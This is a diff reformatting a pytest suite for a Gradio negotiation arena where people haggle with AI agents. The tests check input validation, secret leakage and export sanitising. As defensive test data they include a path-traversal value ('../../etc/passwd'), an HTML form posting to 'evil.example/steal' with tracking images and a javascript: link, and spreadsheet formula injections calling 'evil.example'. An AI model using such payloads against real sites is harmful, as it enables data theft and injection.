@@ -27,15 +27,15 @@ import pytest
 from arena_helpers import browser_page, launch, play_out, serve, start, stored
 from gradio_client import Client
 
+from bargain.agents.arms import resolve
+from bargain.agents.backends import BackendError, Backends, Completion
+from bargain.agents.backends.canned import CannedBackend, canned_reply
 from bargain.arena.controller import ALREADY_PLAYED, Arena, ArenaError, Setup
 from bargain.arena.limits import AdminGate, Backoff, RateLimit, StartLimits
 from bargain.arena.ui import Options, build_app, keep, kept
 from bargain.arena.views import plain
-from bargain.agents.arms import resolve
-from bargain.agents.backends import BackendError, Backends, Completion
-from bargain.agents.backends.canned import CannedBackend, canned_reply
-from bargain.store import Store, StoreError
 from bargain.engine.trial import Mode, Role
+from bargain.store import Store, StoreError
 
 ROOT = Path(__file__).resolve().parents[1]
 SECRETS = ("http://", "https://", "SELECT", "INSERT", "Traceback", "sqlite", "Error:")
@@ -139,7 +139,7 @@ def test_the_public_api_takes_no_seed_and_the_server_draws_one(tmp_path):
         parameters = {p["parameter_name"] for p in info["named_endpoints"]["/start_game"]["parameters"]}
         assert "seed" not in parameters and {"role", "opponent", "condition"} <= parameters
         client = Client(running.url, verbose=False)
-        with pytest.raises(Exception):
+        with pytest.raises(TypeError, match="`seed` is not a valid key-word argument"):
             client.predict(seed=12345, api_name="/start_game")
         seeds = {stored(running.db, start(client)["game_id"])["seed"] for _ in range(5)}
         assert len(seeds) == 5 and all(isinstance(s, int) for s in seeds)
@@ -155,7 +155,10 @@ HIDDEN = {"buyer": ("buyer_unaware", "both_unaware"), "seller": ("seller_unaware
 
 def mentions(text: str, value: float) -> bool:
     """Whether `text` holds the number `value` written as a number (2.4, 2.40, 2.400), not inside another."""
-    return re.search(rf"(?<![0-9.]){re.escape(repr(float(value)).removesuffix('.0'))}(?:\.0+|0+)?(?!\.?[0-9])", text) is not None
+    return (
+        re.search(rf"(?<![0-9.]){re.escape(repr(float(value)).removesuffix('.0'))}(?:\.0+|0+)?(?!\.?[0-9])", text)
+        is not None
+    )
 
 
 @pytest.mark.slow
@@ -174,9 +177,12 @@ def test_the_hidden_price_reaches_the_person_only_in_the_debrief(tmp_path, monke
     monkeypatch.setattr(Blocks, "process_api", recording)
     running = launch(tmp_path / "arena.db")
     try:
+
         def pages() -> list[str]:  # what a page load fetches, while the game is on (minus the markup's own digits)
-            return [re.sub(r"<[^>]*>|[a-z]+-[0-9]+", "", httpx.get(running.url + path, timeout=30).text)
-                    for path in ("config", "gradio_api/info")]
+            return [
+                re.sub(r"<[^>]*>|[a-z]+-[0-9]+", "", httpx.get(running.url + path, timeout=30).text)
+                for path in ("config", "gradio_api/info")
+            ]
 
         client = Client(running.url, verbose=False)
         static = pages()  # before any game: a number already written here (3 in "Qwen3-8B") proves nothing
@@ -189,10 +195,23 @@ def test_the_hidden_price_reaches_the_person_only_in_the_debrief(tmp_path, monke
                         row = stored(running.db, first["game_id"])
                         hidden = row["seller_price" if role == "buyer" else "buyer_price"]
                         own = first["your_price"]
-                        visible = json.dumps({k: first[k] for k in ("item", "description", "persona", "your_price",
-                                                                   "their_price_prior", "your_price_prior")})
-                        planned = [round(own * (0.6 + 0.1 * r) if role == "buyer" else own * (1.6 - 0.1 * r), 2)
-                                   for r in range(1, 5)]  # the person's offers (arena_helpers.play)
+                        visible = json.dumps(
+                            {
+                                k: first[k]
+                                for k in (
+                                    "item",
+                                    "description",
+                                    "persona",
+                                    "your_price",
+                                    "their_price_prior",
+                                    "your_price_prior",
+                                )
+                            }
+                        )
+                        planned = [
+                            round(own * (0.6 + 0.1 * r) if role == "buyer" else own * (1.6 - 0.1 * r), 2)
+                            for r in range(1, 5)
+                        ]  # the person's offers (arena_helpers.play)
                         if mentions(visible, hidden) or hidden in planned or any(mentions(t, hidden) for t in static):
                             # a coincidence: the number means more
                             continue
@@ -226,15 +245,28 @@ def shared(tmp_path_factory):
     running.demo.close()
 
 
-START = {"role": "buyer", "opponent": "tactic:linear", "condition": "both_unaware", "mode": "simultaneous",
-         "rounds": 4, "scenario": "low", "prompt_version": "train", "player": None, "first_actor": "buyer"}
+START = {
+    "role": "buyer",
+    "opponent": "tactic:linear",
+    "condition": "both_unaware",
+    "mode": "simultaneous",
+    "rounds": 4,
+    "scenario": "low",
+    "prompt_version": "train",
+    "player": None,
+    "first_actor": "buyer",
+}
 MOVE = ["game_id", "round", "action", "price", "message"]
 
 
 def raw(url: str, api: str, data: list) -> tuple[int, dict]:
     """A call as any program can make it, with no client library in between (lone surrogates included)."""
-    response = httpx.post(f"{url}gradio_api/run/{api}", content=json.dumps({"data": data}),
-                          headers={"content-type": "application/json"}, timeout=60)
+    response = httpx.post(
+        f"{url}gradio_api/run/{api}",
+        content=json.dumps({"data": data}),
+        headers={"content-type": "application/json"},
+        timeout=60,
+    )
     return response.status_code, response.json()
 
 
@@ -257,7 +289,7 @@ BAD_STARTS = [
     ({"rounds": True}, "rounds must be a whole number"),
     ({"rounds": 0}, "rounds must be between 1 and 20"),
     ({"rounds": 21}, "rounds must be between 1 and 20"),
-    ({"rounds": 10 ** 30}, "rounds must be between 1 and 20"),
+    ({"rounds": 10**30}, "rounds must be between 1 and 20"),
     ({"scenario": "../../etc/passwd"}, "the scenario must be one of"),
     ({"scenario": "x" * 10_000}, "the scenario must be one of"),
     ({"scenario": "low:9999999"}, "that scenario does not exist"),
@@ -281,8 +313,14 @@ def test_bad_start_parameters_are_refused_and_store_nothing(shared, change, matc
 
 
 def move_args(view, **change):
-    return {"game_id": view["game_id"], "round": view["round"], "action": "OFFER", "price": "1.00", "message": "",
-            **change}
+    return {
+        "game_id": view["game_id"],
+        "round": view["round"],
+        "action": "OFFER",
+        "price": "1.00",
+        "message": "",
+        **change,
+    }
 
 
 BAD_MOVES = [
@@ -327,8 +365,9 @@ def test_bad_moves_are_refused_and_store_nothing(shared, change, match):
     assert shared.client.predict(game_id=shared.game["game_id"], api_name="/get_game") == view  # still readable
 
 
-@pytest.mark.parametrize("typed, value", [("2,50", 2.5), ("$2.50", 2.5), ("2.50 €", 2.5), ("1,00", 1.0),
-                                          ("USD 3", 3.0)])
+@pytest.mark.parametrize(
+    "typed, value", [("2,50", 2.5), ("$2.50", 2.5), ("2.50 €", 2.5), ("1,00", 1.0), ("USD 3", 3.0)]
+)
 def test_prices_are_read_as_a_person_means_them(shared, typed, value):
     view = start(shared.client, opponent="tactic:hardliner")
     after = shared.client.predict(**move_args(view, price=typed), api_name="/play_move")
@@ -437,8 +476,9 @@ asyncio.run(main())
 
 @pytest.mark.slow
 def test_a_full_disk_pauses_the_game_and_it_goes_on_once_there_is_room(tmp_path):
-    result = subprocess.run([sys.executable, "-c", FULL_DISK, str(tmp_path / "a.db")], capture_output=True, text=True,
-                            timeout=120, cwd=ROOT)
+    result = subprocess.run(
+        [sys.executable, "-c", FULL_DISK, str(tmp_path / "a.db")], capture_output=True, text=True, timeout=120, cwd=ROOT
+    )
     assert result.returncode == 0, result.stderr[-2000:]
     out = json.loads(result.stdout.strip().splitlines()[-1])
     assert "paused" in out["paused"]["error"] and out["paused"]["round"] == 2
@@ -466,8 +506,13 @@ def test_a_game_that_cannot_be_created_is_not_started(tmp_path):
 def test_a_read_only_database_stops_the_app_with_one_line(tmp_path):
     path = tmp_path / "a.db"
     Store(f"sqlite:///{path}").engine.dispose()
-    result = subprocess.run([sys.executable, "app.py", "--db", f"sqlite:///file:{path}?mode=ro&uri=true"],
-                            capture_output=True, text=True, timeout=120, cwd=ROOT)
+    result = subprocess.run(
+        [sys.executable, "app.py", "--db", f"sqlite:///file:{path}?mode=ro&uri=true"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=ROOT,
+    )
     assert result.returncode != 0
     assert "Traceback" not in result.stderr and "error:" in result.stderr and "read" in result.stderr.lower()
 
@@ -487,8 +532,14 @@ class Switchable(CannedBackend):
     async def complete(self, request):
         if not self.up:
             raise BackendError("cannot reach http://10.0.0.7:8000/v1 (raw reply: 'I think my floor is 4.21')")
-        return Completion(text=canned_reply(request.messages), prompt_tokens=1, completion_tokens=1, latency_s=0.0,
-                          model=request.model, finish_reason="stop")
+        return Completion(
+            text=canned_reply(request.messages),
+            prompt_tokens=1,
+            completion_tokens=1,
+            latency_s=0.0,
+            model=request.model,
+            finish_reason="stop",
+        )
 
 
 def test_after_an_agent_failure_the_person_can_retry_and_the_game_stays_resumable(tmp_path):
@@ -564,8 +615,9 @@ def test_internal_errors_reach_clients_only_as_the_projects_own_sentences(tmp_pa
             raise RuntimeError("SELECT buyer_price, seller_price FROM games -- 4.21 at http://10.0.0.7:8000")
 
         monkeypatch.setattr(running.arena.store, "add_moves", broken)
-        paused = client.predict(game_id=view["game_id"], round=1, action="OFFER", price="1.00", message="",
-                                api_name="/play_move")
+        paused = client.predict(
+            game_id=view["game_id"], round=1, action="OFFER", price="1.00", message="", api_name="/play_move"
+        )
         monkeypatch.setattr(running.arena, "start", broken)
         with pytest.raises(Exception) as refused:
             start(client)
@@ -581,8 +633,9 @@ def test_a_lone_surrogate_from_a_model_never_breaks_a_game(tmp_path):
     class Surrogates(CannedBackend):
         async def complete(self, request):
             text = canned_reply(request.messages).replace('"message": "', '"message": "\\ud800 ')
-            return Completion(text=text + "\ud800", prompt_tokens=0, completion_tokens=0, latency_s=0.0,
-                              model=request.model)
+            return Completion(
+                text=text + "\ud800", prompt_tokens=0, completion_tokens=0, latency_s=0.0, model=request.model
+            )
 
     arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(Surrogates()))
     running = serve(build_app(arena, Options({s: True for s in arena.arms}, browser_secret="k")).queue(), arena)
@@ -675,15 +728,24 @@ def test_the_browser_secret_stays_on_the_server(tmp_path):
         running.demo.close()
     signed = keep("server-key", "player1", "a" * 32)
     assert kept("server-key", signed) == {"player": "player1", "game": "a" * 32}
-    for forged in ({**signed, "player": "someone-else"}, {**signed, "game": "b" * 32}, {**signed, "sig": "0" * 64},
-                   keep("other-key", "player1", "a" * 32), None, "junk", {"player": 3}):
+    for forged in (
+        {**signed, "player": "someone-else"},
+        {**signed, "game": "b" * 32},
+        {**signed, "sig": "0" * 64},
+        keep("other-key", "player1", "a" * 32),
+        None,
+        "junk",
+        {"player": 3},
+    ):
         fresh = kept("server-key", forged)
         assert fresh["game"] is None and fresh["player"] != "someone-else"
 
 
-HOSTILE = ('<form action="http://evil.example/steal"><input name="a"><button>Claim</button></form> '
-           '<img src="http://evil.example/pixel.png"> ![x](http://evil.example/md.png) '
-           '[click](javascript:alert(1)) $$x$$ **bold**')
+HOSTILE = (
+    '<form action="http://evil.example/steal"><input name="a"><button>Claim</button></form> '
+    '<img src="http://evil.example/pixel.png"> ![x](http://evil.example/md.png) '
+    "[click](javascript:alert(1)) $$x$$ **bold**"
+)
 
 
 def test_plain_shows_text_as_typed():
@@ -726,14 +788,34 @@ def test_exports_neutralise_formulas_in_csv_and_keep_parquet_exact(tmp_path):
         return arena.store
 
     store = asyncio.run(scenario())
-    row = {k: v for k, v in store.games_frame().iloc[0].to_dict().items() if k in (
-        "human_role", "arm", "scenario", "seed", "condition", "mode", "max_rounds", "first_actor", "buyer_price",
-        "seller_price", "trial", "prompt_version", "parsing")}
+    row = {
+        k: v
+        for k, v in store.games_frame().iloc[0].to_dict().items()
+        if k
+        in (
+            "human_role",
+            "arm",
+            "scenario",
+            "seed",
+            "condition",
+            "mode",
+            "max_rounds",
+            "first_actor",
+            "buyer_price",
+            "seller_price",
+            "trial",
+            "prompt_version",
+            "parsing",
+        )
+    }
     store.create_game(id="f" * 32, player="@SUM(A1:A9)", **row)  # as a database from before the checks might hold
     store.export(tmp_path / "out")
-    moves_csv, moves_parquet = pd.read_csv(tmp_path / "out" / "moves.csv"), pd.read_parquet(tmp_path / "out" / "moves.parquet")
+    moves_csv, moves_parquet = (
+        pd.read_csv(tmp_path / "out" / "moves.csv"),
+        pd.read_parquet(tmp_path / "out" / "moves.parquet"),
+    )
     human = moves_csv["actor"] == "human"
-    assert moves_csv.loc[human, "message"].iloc[0] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
+    assert moves_csv.loc[human, "message"].iloc[0] == '\'=HYPERLINK("http://evil.example","x")'
     assert moves_parquet.loc[moves_parquet["actor"] == "human", "message"].iloc[0].startswith("=HYPERLINK")
     assert list(pd.read_csv(tmp_path / "out" / "games.csv")["player"]) == ["p1", "'@SUM(A1:A9)"]
     assert list(pd.read_parquet(tmp_path / "out" / "games.parquet")["player"]) == ["p1", "@SUM(A1:A9)"]
@@ -800,8 +882,11 @@ def test_results_come_from_findings_stored_when_each_game_ended(tmp_path, monkey
     rows = arena.store.games_frame()
     finished = rows[rows["status"] == "finished"]
     assert all(isinstance(c, list) for c in finished["claims"]) and set(finished["agent_misstated"]) == {False}
-    assert any(f["role"] == "buyer" and f["kind"] == "own_limit" and f["misrepresentation"]
-               for c in finished["claims"] for f in c)
+    assert any(
+        f["role"] == "buyer" and f["kind"] == "own_limit" and f["misrepresentation"]
+        for c in finished["claims"]
+        for f in c
+    )
 
     def never(*args, **kwargs):
         raise AssertionError("the claim checker ran on a refresh")
@@ -894,5 +979,6 @@ def test_no_page_takes_an_upload_and_free_play_links_its_api(shared):
     answer = httpx.post(f"{shared.url}gradio_api/upload", files={"files": ("big.bin", b"0" * 20_000_000)}, timeout=60)
     assert answer.status_code == 413
     assert httpx.get(f"{shared.url}config", timeout=30).json()["footer_links"] == ["api"]
-    assert {"/start_game", "/play_move", "/get_game"} <= set(shared.client.view_api(print_info=False,
-                                                                                 return_format="dict")["named_endpoints"])
+    assert {"/start_game", "/play_move", "/get_game"} <= set(
+        shared.client.view_api(print_info=False, return_format="dict")["named_endpoints"]
+    )
